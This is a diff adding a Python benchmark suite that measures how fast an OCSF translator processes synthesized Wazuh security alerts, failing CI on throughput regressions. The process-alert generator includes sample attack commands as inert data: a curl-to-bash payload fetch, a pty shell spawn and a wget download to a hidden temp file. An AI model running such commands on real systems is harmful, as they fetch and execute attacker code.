@@ -0,0 +1,404 @@
+#!/usr/bin/env python3
+"""
+Translator benchmark suite over Wazuh alert corpora with regression gating
+
+Replays NDJSON alert corpora (syscheck FIM, authentication failures,
+process/command, network and a weighted mix) through the OCSF translator and
+records events/sec, allocated bytes per event and per-event latency
+percentiles. The run fails when throughput drops by more than the allowed
+percentage against a reference.
+
+Absolute events/sec only compare on one machine under one load, so CI does
+not gate on stored numbers: with --against DIR the suite also benchmarks a
+checkout of the base commit on the same runner, alternating one round of
+each in fresh processes over identical corpora, and compares the two.
+--baseline compares against results saved earlier with --save-baseline on
+the same host, for local use.
+
+Recorded corpora can be dropped into benchmarks/corpora/<name>.json; any
+corpus that is missing is synthesized deterministically from the templates
+below.
+"""
+import argparse
+import json
+import os
+import platform
+import random
+import subprocess
+import sys
+import tempfile
+import tracemalloc
+from time import perf_counter, perf_counter_ns
+
+from ocsf_translator import OcsfTranslator
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+BENCHMARK_DIR = os.path.join(HERE, "benchmarks")
+CORPUS_DIR = os.path.join(BENCHMARK_DIR, "corpora")
+BASELINE_PATH = os.path.join(BENCHMARK_DIR, "baseline.json")
+CORPORA = ("syscheck", "authentication", "process", "network", "mixed")
+MIXED_WEIGHTS = (("syscheck", 2), ("authentication", 5), ("process", 2), ("network", 3))
+
+
+def _base_alert(rng, index, rule, decoder, location, full_log):
+    agent = rng.randrange(1, 200)
+    return {
+        "timestamp": "2024-07-07T%02d:%02d:%02d.%03d+0000" % (
+            index // 3600 % 24, index // 60 % 60, index % 60, rng.randrange(1000)),
+        "rule": rule,
+        "agent": {"id": "%03d" % agent, "name": "agent-%03d" % agent,
+                  "ip": "10.10.%d.%d" % (agent // 250, agent % 250 + 1)},
+        "manager": {"name": "wazuh-manager-01"},
+        "id": "1720310400.%d" % (index * 977),
+        "cluster": {"name": "wazuh-cluster", "node": "master"},
+        "decoder": decoder,
+        "location": location,
+        "full_log": full_log,
+    }
+
+
+def make_syscheck_alert(rng, index):
+    path = rng.choice(["/etc/passwd", "/etc/shadow", "/etc/ssh/sshd_config",
+                       "/usr/bin/sudo", "/etc/hosts", "/var/www/html/index.php"])
+    event = rng.choice(["modified", "modified", "added", "deleted"])
+    alert = _base_alert(
+        rng, index,
+        {"level": 7, "description": "Integrity checksum changed.", "id": "550",
+         "groups": ["ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"],
+         "firedtimes": rng.randrange(1, 50),
+         "pci_dss": ["11.5"], "gdpr": ["II_5.1.f"], "nist_800_53": ["SI.7"],
+         "mitre": {"id": ["T1565.001"], "tactic": ["Impact"],
+                   "technique": ["Stored Data Manipulation"]}},
+        {"name": "syscheck_integrity_changed"}, "syscheck",
+        "File '%s' %s\nMode: realtime\nChanged attributes: size,mtime,md5,sha1,sha256\n" % (path, event))
+    alert["syscheck"] = {
+        "path": path, "mode": "realtime", "event": event,
+        "size_before": str(rng.randrange(100, 9000)), "size_after": str(rng.randrange(100, 9000)),
+        "perm_after": "rw-r--r--", "uid_after": "0", "gid_after": "0",
+        "md5_after": "%032x" % rng.getrandbits(128),
+        "sha1_after": "%040x" % rng.getrandbits(160),
+        "sha256_after": "%064x" % rng.getrandbits(256),
+        "changed_attributes": ["size", "mtime", "md5", "sha1", "sha256"],
+    }
+    return alert
+
+
+def make_authentication_alert(rng, index):
+    srcip = "203.0.113.%d" % rng.randrange(1, 255)
+    user = rng.choice(["root", "admin", "oracle", "test", "ubuntu", "postgres"])
+    rule_id, level, description = rng.choice([
+        ("5710", 5, "sshd: Attempt to login using a non-existent user"),
+        ("5712", 10, "sshd: brute force trying to get access to the system. Non existent user."),
+        ("5503", 5, "PAM: User login failed."),
+        ("5760", 5, "sshd: authentication failed."),
+    ])
+    port = rng.randrange(1024, 65535)
+    alert = _base_alert(
+        rng, index,
+        {"level": level, "description": description, "id": rule_id,
+         "groups": ["syslog", "sshd", "authentication_failed", "invalid_login"],
+         "firedtimes": rng.randrange(1, 5000),
+         "mitre": {"id": ["T1110"], "tactic": ["Credential Access"],
+                   "technique": ["Brute Force"]}},
+        {"parent": "sshd", "name": "sshd"}, "/var/log/auth.log",
+        "Jul  7 10:%02d:%02d host sshd[%d]: Failed password for invalid user %s from %s port %d ssh2"
+        % (index // 60 % 60, index % 60, rng.randrange(1000, 60000), user, srcip, port))
+    alert["data"] = {"srcip": srcip, "srcport": str(port), "srcuser": user}
+    alert["predecoder"] = {"program_name": "sshd", "timestamp": "Jul  7 10:00:00",
+                           "hostname": "host"}
+    return alert
+
+
+def make_process_alert(rng, index):
+    command = rng.choice([
+        "/bin/bash -c 'curl -s http://198.51.100.7/payload.sh | bash'",
+        "/usr/bin/python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
+        "/usr/bin/wget -q -O /tmp/.x http://198.51.100.9/x",
+        "/bin/systemctl restart nginx",
+        "/usr/bin/crontab -l",
+    ])
+    alert = _base_alert(
+        rng, index,
+        {"level": rng.choice([3, 8, 12]), "description": "Successful sudo to ROOT executed.",
+         "id": "5402", "groups": ["syslog", "sudo"],
+         "mitre": {"id": ["T1548.003", "T1059.004"],
+                   "tactic": ["Privilege Escalation", "Defense Evasion", "Execution"],
+                   "technique": ["Sudo and Sudo Caching", "Unix Shell"]}},
+        {"parent": "sudo", "name": "sudo"}, "/var/log/auth.log",
+        "Jul  7 10:00:00 host sudo: deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=%s"
+        % command)
+    alert["data"] = {"srcuser": "deploy", "dstuser": "root", "tty": "pts/0",
+                     "pwd": "/home/deploy", "command": command}
+    return alert
+
+
+def make_network_alert(rng, index):
+    action = rng.choice(["DROP", "DROP", "ACCEPT", "REJECT"])
+    protocol = rng.choice(["TCP", "UDP", "ICMP"])
+    srcip = "198.51.100.%d" % rng.randrange(1, 255)
+    dstip = "10.0.%d.%d" % (rng.randrange(0, 4), rng.randrange(1, 255))
+    srcport = rng.randrange(1024, 65535)
+    dstport = rng.choice([22, 23, 80, 443, 445, 3389, 8080])
+    alert = _base_alert(
+        rng, index,
+        {"level": rng.choice([3, 5, 6]), "description": "iptables: Firewall drop event.",
+         "id": "4101", "groups": ["firewall", "iptables"]},
+        {"parent": "iptables", "name": "iptables"}, "/var/log/kern.log",
+        "Jul  7 10:00:00 fw kernel: %s IN=eth0 OUT= SRC=%s DST=%s PROTO=%s SPT=%d DPT=%d"
+        % (action, srcip, dstip, protocol, srcport, dstport))
+    alert["data"] = {"srcip": srcip, "dstip": dstip, "srcport": str(srcport),
+                     "dstport": str(dstport), "protocol": protocol, "action": action}
+    return alert
+
+
+GENERATORS = {
+    "syscheck": make_syscheck_alert,
+    "authentication": make_authentication_alert,
+    "process": make_process_alert,
+    "network": make_network_alert,
+}
+
+
+def generate_corpus(name, count, seed=7):
+    """Deterministically synthesize count alert lines for a corpus"""
+    rng = random.Random("%s-%d" % (name, seed))
+    if name == "mixed":
+        names = [n for n, weight in MIXED_WEIGHTS for _ in range(weight)]
+        return [json.dumps(GENERATORS[rng.choice(names)](rng, i)).encode() for i in range(count)]
+    return [json.dumps(GENERATORS[name](rng, i)).encode() for i in range(count)]
+
+
+def load_corpus(name, corpus_dir=CORPUS_DIR, count=5000):
+    """Load a recorded corpus, synthesizing it when no file exists"""
+    path = os.path.join(corpus_dir, name + ".json")
+    if os.path.exists(path):
+        with open(path, "rb") as f:
+            return [line for line in f.read().split(b"\n") if line.strip()]
+    return generate_corpus(name, count)
+
+
+def record_corpora(corpus_dir=CORPUS_DIR, count=5000):
+    """Write synthesized corpora so later runs replay identical input"""
+    os.makedirs(corpus_dir, exist_ok=True)
+    for name in CORPORA:
+        with open(os.path.join(corpus_dir, name + ".json"), "wb") as f:
+            f.write(b"\n".join(generate_corpus(name, count)) + b"\n")
+
+
+def percentile(sorted_values, fraction):
+    return sorted_values[min(int(fraction * len(sorted_values)), len(sorted_values) - 1)]
+
+
+def measure_throughput(translator, lines, min_seconds=1.0):
+    """Events/sec for decode + translate + encode, repeating the corpus"""
+    translate_line = translator.translate_line
+    encode = translator.encode
+    events = 0
+    start = perf_counter()
+    while True:
+        for line in lines:
+            event = translate_line(line)
+            if event is not None:
+                encode(event)
+        events += len(lines)
+        elapsed = perf_counter() - start
+        if elapsed >= min_seconds:
+            return events / elapsed
+
+
+def measure_latency(translator, lines):
+    """Per-event latency percentiles in microseconds"""
+    latencies = []
+    for line in lines:
+        start = perf_counter_ns()
+        event = translator.translate_line(line)
+        if event is not None:
+            translator.encode(event)
+        latencies.append(perf_counter_ns() - start)
+    latencies.sort()
+    return {"p50_us": percentile(latencies, 0.50) / 1000.0,
+            "p99_us": percentile(latencies, 0.99) / 1000.0}
+
+
+def measure_allocations(translator, lines, sample=500):
+    """Mean peak bytes allocated while translating and encoding one event"""
+    if not hasattr(tracemalloc, "reset_peak"):
+        return None
+    total = 0
+    sample_lines = lines[:sample]
+    tracemalloc.start()
+    try:
+        for line in sample_lines:
+            tracemalloc.reset_peak()
+            baseline = tracemalloc.get_traced_memory()[0]
+            event = translator.translate_line(line)
+            if event is not None:
+                translator.encode(event)
+            total += tracemalloc.get_traced_memory()[1] - baseline
+            del event
+    finally:
+        tracemalloc.stop()
+    return total / len(sample_lines)
+
+
+def run_suite(corpora=CORPORA, corpus_dir=CORPUS_DIR, min_seconds=1.0, rounds=3,
+              translator=None):
+    translator = translator or OcsfTranslator()
+    results = {}
+    for name in corpora:
+        lines = load_corpus(name, corpus_dir)
+        measure_latency(translator, lines[:200])  # warm caches
+        result = {
+            "events": len(lines),
+            "bytes_per_line": sum(len(line) for line in lines) / len(lines),
+            # Best of several rounds: the fastest run is the least disturbed one
+            "events_per_sec": max(measure_throughput(translator, lines, min_seconds)
+                                  for _ in range(rounds)),
+        }
+        result.update(measure_latency(translator, lines))
+        result["alloc_bytes_per_event"] = measure_allocations(translator, lines)
+        results[name] = result
+    return {
+        "python": platform.python_version(),
+        "implementation": platform.python_implementation(),
+        "machine": platform.machine(),
+        "corpora": results,
+    }
+
+
+def run_checkout(checkout, corpora, corpus_dir, min_seconds, workdir):
+    """One throughput round of a checkout's own suite, in a fresh process"""
+    output = os.path.join(workdir, "results.json")
+    command = [sys.executable, os.path.join(checkout, "benchmark_suite.py"),
+               "--corpus-dir", corpus_dir, "--seconds", str(min_seconds), "--rounds", "1",
+               "--baseline", os.path.join(workdir, "no-baseline.json"), "--output", output]
+    for name in corpora:
+        command += ["--corpus", name]
+    subprocess.run(command, cwd=checkout, check=True, stdout=subprocess.DEVNULL)
+    with open(output) as f:
+        return json.load(f)
+
+
+def best_of(runs):
+    """Merge runs, keeping the fastest result per corpus"""
+    merged = dict(runs[0], corpora={})
+    for run in runs:
+        for name, result in run["corpora"].items():
+            best = merged["corpora"].get(name)
+            if best is None or result["events_per_sec"] > best["events_per_sec"]:
+                merged["corpora"][name] = result
+    return merged
+
+
+def run_against(reference, corpora=CORPORA, corpus_dir=CORPUS_DIR, min_seconds=1.0, rounds=3):
+    """(results, reference results) from alternating rounds on this machine
+
+    Both trees replay this tree's corpora, so a change to the generators is
+    not mistaken for a change in the translator.
+    """
+    with tempfile.TemporaryDirectory() as workdir:
+        shared = os.path.join(workdir, "corpora")
+        os.makedirs(shared)
+        for name in corpora:
+            with open(os.path.join(shared, name + ".json"), "wb") as f:
+                f.write(b"\n".join(load_corpus(name, corpus_dir)) + b"\n")
+        runs = ([], [])
+        for _ in range(rounds):
+            for checkout, results in ((reference, runs[1]), (HERE, runs[0])):
+                results.append(run_checkout(checkout, corpora, shared, min_seconds, workdir))
+    return best_of(runs[0]), best_of(runs[1])
+
+
+def compare(results, baseline, max_regression):
+    """Return a list of corpora whose throughput regressed too far"""
+    failures = []
+    for name, result in results["corpora"].items():
+        reference = baseline.get("corpora", {}).get(name)
+        if not reference:
+            continue
+        change = (result["events_per_sec"] - reference["events_per_sec"]) / reference["events_per_sec"]
+        if change < -max_regression / 100.0:
+            failures.append((name, reference["events_per_sec"], result["events_per_sec"], change))
+    return failures
+
+
+def main():
+    parser = argparse.ArgumentParser(description="OCSF translator benchmark suite")
+    parser.add_argument("--corpus", action="append", choices=CORPORA,
+                        help="corpus to run (default: all)")
+    parser.add_argument("--corpus-dir", default=CORPUS_DIR)
+    parser.add_argument("--record-corpora", action="store_true",
+                        help="write synthesized corpora to --corpus-dir and exit")
+    parser.add_argument("--seconds", type=float, default=1.0,
+                        help="minimum measurement time per round")
+    parser.add_argument("--rounds", type=int, default=3,
+                        help="throughput rounds per corpus; the best is kept")
+    parser.add_argument("--against", metavar="DIR",
+                        help="checkout of the base commit to benchmark alongside this tree "
+                        "and compare against, instead of a saved baseline")
+    parser.add_argument("--baseline", default=BASELINE_PATH,
+                        help="results saved on this host with --save-baseline")
+    parser.add_argument("--save-baseline", action="store_true")
+    parser.add_argument("--max-regression", type=float, default=10.0,
+                        help="fail when events/sec drops by more than this percent")
+    parser.add_argument("--output", help="write results JSON here")
+    args = parser.parse_args()
+    if args.against and args.save_baseline:
+        parser.error("--save-baseline cannot be used with --against")
+
+    if args.record_corpora:
+        record_corpora(args.corpus_dir)
+        return 0
+
+    corpora = args.corpus or CORPORA
+    baseline = None
+    if args.against:
+        if not os.path.exists(os.path.join(args.against, "benchmark_suite.py")):
+            print("No benchmark suite in %s; nothing to compare against" % args.against)
+            return 0
+        results, baseline = run_against(args.against, corpora, args.corpus_dir,
+                                        args.seconds, args.rounds)
+    else:
+        results = run_suite(corpora, args.corpus_dir, args.seconds, args.rounds)
+
+    print("Wazuh-OCSF Translator Benchmark")
+    print("=" * 78)
+    print("%-16s %12s %10s %10s %14s" % ("corpus", "events/sec", "p50 µs", "p99 µs", "alloc B/event"))
+    for name, result in results["corpora"].items():
+        print("%-16s %12.0f %10.1f %10.1f %14s" % (
+            name, result["events_per_sec"], result["p50_us"], result["p99_us"],
+            "%.0f" % result["alloc_bytes_per_event"]
+            if result["alloc_bytes_per_event"] is not None else "n/a"))
+
+    if args.output:
+        with open(args.output, "w") as f:
+            json.dump(results, f, indent=2)
+
+    if args.save_baseline:
+        os.makedirs(os.path.dirname(args.baseline), exist_ok=True)
+        with open(args.baseline, "w") as f:
+            json.dump(results, f, indent=2)
+        print("\nBaseline saved: %s" % args.baseline)
+        return 0
+
+    reference = args.against or args.baseline
+    if baseline is None:
+        if not os.path.exists(args.baseline):
+            print("\nNo baseline at %s; run with --save-baseline first" % args.baseline)
+            return 0
+        with open(args.baseline) as f:
+            baseline = json.load(f)
+    failures = compare(results, baseline, args.max_regression)
+    print()
+    for name, before, after, change in failures:
+        print("❌ %s: %.0f -> %.0f events/sec (%.1f%%)" % (name, before, after, change * 100))
+    if failures:
+        print("FAIL: throughput regressed more than %.1f%% against %s"
+              % (args.max_regression, reference))
+        return 1
+    print("✅ Throughput within %.1f%% of %s" % (args.max_regression, reference))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())